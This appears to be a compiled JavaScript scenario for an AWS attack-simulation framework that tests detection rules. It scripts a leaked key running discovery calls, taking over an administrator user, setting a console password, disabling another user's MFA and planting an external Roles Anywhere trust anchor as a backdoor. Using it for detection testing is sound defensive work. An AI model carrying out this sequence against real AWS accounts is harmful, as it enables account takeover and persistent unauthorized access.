import { AttachUserPolicyCommand, CreateLoginProfileCommand, DeactivateMFADeviceCommand, GetAccountAuthorizationDetailsCommand, ListRolesCommand, ListUsersCommand, } from '@aws-sdk/client-iam';
import { DescribeTrailsCommand } from '@aws-sdk/client-cloudtrail';
import { DescribeInstancesCommand, DescribeSecurityGroupsCommand } from '@aws-sdk/client-ec2';
import { ListFunctionsCommand } from '@aws-sdk/client-lambda';
import { DescribeDBInstancesCommand } from '@aws-sdk/client-rds';
import { ListBucketsCommand } from '@aws-sdk/client-s3';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { awsCli, awsService, boto3, CreateProfileCommand, CreateTrustAnchorCommand, defineScenario, iamUser, minutes, seconds, } from 'trailproof';
import { externalCa } from './support/certificate.js';
import { ownAdministrator } from './support/own-administrator.js';
import { trustsService } from './support/policies.js';
const abroad = { place: 'amsterdam', client: awsCli({ os: 'kali' }) };
const leaked = iamUser('deploy-bot', { as: 'leaked', ...abroad });
const support = awsService('support.amazonaws.com', { place: 'amazon-us-east-1', client: boto3() });
const region = 'eu-central-1';
const looks = [
    { technique: 'T1087.004', look: () => new ListUsersCommand({}) },
    { technique: 'T1087.004', look: () => new ListRolesCommand({}) },
    { technique: 'T1087.004', look: () => new GetAccountAuthorizationDetailsCommand({}) },
    { technique: 'T1580', look: () => new ListBucketsCommand({}) },
    { technique: 'T1580', look: () => new DescribeInstancesCommand({}) },
    { technique: 'T1580', look: () => new DescribeSecurityGroupsCommand({}) },
    { technique: 'T1580', look: () => new DescribeDBInstancesCommand({}) },
    { technique: 'T1526', look: () => new ListFunctionsCommand({}) },
    { technique: 'T1526', look: () => new DescribeTrailsCommand({}) },
    { technique: 'T1078.004', look: () => new GetCallerIdentityCommand({}) },
    { technique: 'T1580', look: () => new DescribeInstancesCommand({ MaxResults: 50 }) },
    { technique: 'T1087.004', look: () => new ListUsersCommand({ PathPrefix: '/people/' }) },
];
export default defineScenario({
    title: 'Campaign: a leaked key becomes an administrator and a way back in',
    techniques: [
        'T1087.004',
        'T1526',
        'T1580',
        'T1136.003',
        'T1098.001',
        'T1098.003',
        'T1556',
        'T1556.006',
        'T1531',
        'T1078.004',
        'T1552',
    ],
    detectedBy: [
        'discovery-burst-from-one-identity',
        'iam-access-key-for-another-user',
        'iam-admin-policy-attached-to-user',
        'iam-mfa-device-deactivated',
        'rolesanywhere-external-trust-anchor',
        'rolesanywhere-profile-created',
        'iam-quarantine-policy-attached',
    ],
    world: {
        users: {
            'deploy-bot': { attached: ['AdministratorAccess'] },
            alice: { attached: ['AdministratorAccess'], loginProfile: true, mfa: 'alice-phone' },
        },
        roles: {
            'on-premises-admin': {
                trust: trustsService('rolesanywhere.amazonaws.com'),
                attached: ['AdministratorAccess'],
            },
        },
    },
    cast: { leaked, support },
    attack: {
        'from the leak to the quarantine': async (play) => {
            await play.burst(looks.length, seconds(10), (index) => {
                const { look, technique } = looks[index];
                return play.as(leaked).send(look(), { technique });
            });
            await play.wait(minutes(4));
            const key = await ownAdministrator(play, leaked, 'aws-backup');
            await play.as(leaked).send(new CreateLoginProfileCommand({
                UserName: 'aws-backup',
                Password: 'correct horse battery 1!',
            }), { technique: 'T1098.001' });
            const backdoor = play.actor('backdoor', key, abroad);
            await play.wait(minutes(11));
            await play.as(backdoor).send(new DeactivateMFADeviceCommand({
                UserName: 'alice',
                SerialNumber: play.mfa('alice-phone').serialNumber,
            }), { technique: ['T1556.006', 'T1531'] });
            await play.wait(minutes(3));
            await play.as(backdoor, { region }).send(new CreateTrustAnchorCommand({
                name: 'servers',
                source: {
                    sourceType: 'CERTIFICATE_BUNDLE',
                    sourceData: { x509CertificateData: externalCa },
                },
                enabled: true,
            }), { technique: ['T1556', 'T1098.003'] });
            await play.as(backdoor, { region }).send(new CreateProfileCommand({
                name: 'servers',
                roleArns: [`arn:aws:iam::${play.account()}:role/on-premises-admin`],
                enabled: true,
            }), { technique: 'T1098.003' });
            await play.wait(minutes(20));
            await play.as(support).send(new AttachUserPolicyCommand({
                UserName: 'deploy-bot',
                PolicyArn: 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3',
            }), { technique: ['T1552', 'T1078.004'] });
        },
    },
});
//# sourceMappingURL=campaign-leaked-key.js.map